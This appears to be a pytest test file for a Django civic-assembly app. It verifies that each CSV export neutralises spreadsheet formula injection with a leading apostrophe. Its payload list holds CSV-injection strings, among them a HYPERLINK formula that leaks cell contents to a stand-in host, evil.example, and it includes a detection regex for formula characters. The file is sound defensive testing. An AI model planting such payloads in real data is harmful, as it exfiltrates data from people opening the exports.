"""No CSV export carries a spreadsheet formula (`alliance/csv_safe.py`).

The attacker names themselves, their CAE, a poll's answer or a comment like a formula; the
person who downloads the export (through its URL, as a role that may) must find that text as
text: a leading apostrophe, the way OWASP advises. Every export of the site is here.
"""

import csv
import io
import re

import pytest
from django.test import Client

from assemblies import services
from tests.assemblies.factories import AssemblyFactory, cast, open_poll, seat
from tests.factories import NetworkFactory, OrganisationFactory, UserFactory
from tests.proposals.consultation_factories import ConsultationFactory, answer, axis_ids
from tests.proposals.factories import make_proposal

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "@SUM(A1:A9)",
    "+33 1 23",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # after spaces
]

# What a spreadsheet may run: a formula character, possibly after whitespace.
RUNS = re.compile(r"\s*[=+\-@\t\r＝＋－＠]")


def rows_of(response, delimiter=","):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_neutralised(rows, payload):
    cells = [cell for row in rows for cell in row]
    running = [cell for cell in cells if RUNS.match(cell)]
    assert not running, f"cells a spreadsheet would run: {running}"
    # Forms strip what people type: the payload arrives whole, or without its outer spaces.
    quoted = [cell for cell in cells if cell.startswith("'") and payload.strip() in cell]
    assert quoted, "the payload did not reach the export"


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def named_person(payload, **kwargs):
    return {"first_name": payload, "last_name": "", **kwargs}


def an_assembly_with(payload, secretariat):
    """An assembly where a CAE, its delegate and a poll's option are named `payload`; one
    named poll, voted, closed and published."""
    assembly = AssemblyFactory()
    (delegate,) = seat(assembly, 1, teller=secretariat)
    delegate.organisation.name = payload
    delegate.organisation.save(update_fields=["name"])
    delegate.first_name, delegate.last_name = payload, ""
    delegate.save(update_fields=["first_name", "last_name"])
    poll = open_poll(assembly, teller=secretariat, method="single", options=[payload, "Autre"])
    cast(poll, delegate, poll.options.order_by("position").first().pk)
    services.poll_close(actor=secretariat, poll=poll)
    services.poll_publish(actor=secretariat, poll=poll)
    return assembly, poll, delegate


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_attendance_export_carries_no_formula(payload, secretariat):
    assembly, _poll, _delegate = an_assembly_with(payload, secretariat)
    response = client_for(secretariat).get(f"/api/assemblies/{assembly.pk}/attendance.csv")
    assert_neutralised(rows_of(response), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_polls_export_carries_no_formula(payload, secretariat):
    assembly, _poll, delegate = an_assembly_with(payload, secretariat)
    response = client_for(delegate).get(f"/api/assemblies/{assembly.pk}/polls.csv")
    assert_neutralised(rows_of(response), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_ballots_export_carries_no_formula(payload, secretariat):
    _assembly, poll, delegate = an_assembly_with(payload, secretariat)
    response = client_for(delegate).get(f"/api/polls/{poll.pk}/ballots.csv")
    rows = rows_of(response)
    assert_neutralised(rows, payload)
    assert rows[1][0] == f"'{payload}"  # the CAE's name, kept whole after the apostrophe


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "path", ["/api/proposals/{pk}/notes.csv", "/propositions/{slug}/atelier/notes.csv"]
)
def test_the_workshop_notes_export_carries_no_formula(payload, path, secretariat):
    from proposals.scenarios import services as scenario_services

    proposal = make_proposal()
    author = UserFactory(**named_person(payload), organisation=OrganisationFactory(name=payload))
    scenario_services.workshop_note_create(
        actor=author, proposal=proposal, kind="brake", text=payload
    )
    scenario_services.workshop_note_create(
        actor=secretariat, proposal=proposal, kind="lever", text="x", session=payload
    )
    response = client_for(secretariat).get(path.format(pk=proposal.pk, slug=proposal.slug))
    assert_neutralised(rows_of(response, delimiter=";"), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_consultation_exports_carry_no_formula(payload, secretariat):
    consultation = ConsultationFactory(
        slug="priorites", questions=[payload], axes=[payload, "Promotion"]
    )
    organisation = OrganisationFactory(
        name=payload, networks=[NetworkFactory(acronym=payload[:40])]
    )  # sigle: 40 characters
    answer(
        consultation,
        axis_ids(consultation),
        organisation=organisation,
        channel="territorial",
        meeting_name=payload,
        comment=payload,
        free_answers={str(consultation.questions.get().pk): payload},
        entered_by=UserFactory(**named_person(payload), organisation=organisation),
    )
    client = client_for(secretariat)
    for export in ("answers.csv", "results.csv"):
        response = client.get(f"/api/consultations/{consultation.slug}/{export}")
        assert_neutralised(rows_of(response), payload)


def test_numbers_written_by_the_code_stay_numbers(secretariat):
    assembly, poll, delegate = an_assembly_with("CAE Nord", secretariat)
    rows = rows_of(client_for(delegate).get(f"/api/assemblies/{assembly.pk}/polls.csv"))
    assert rows[1][0] == str(poll.pk) and rows[1][4] == "1.00"
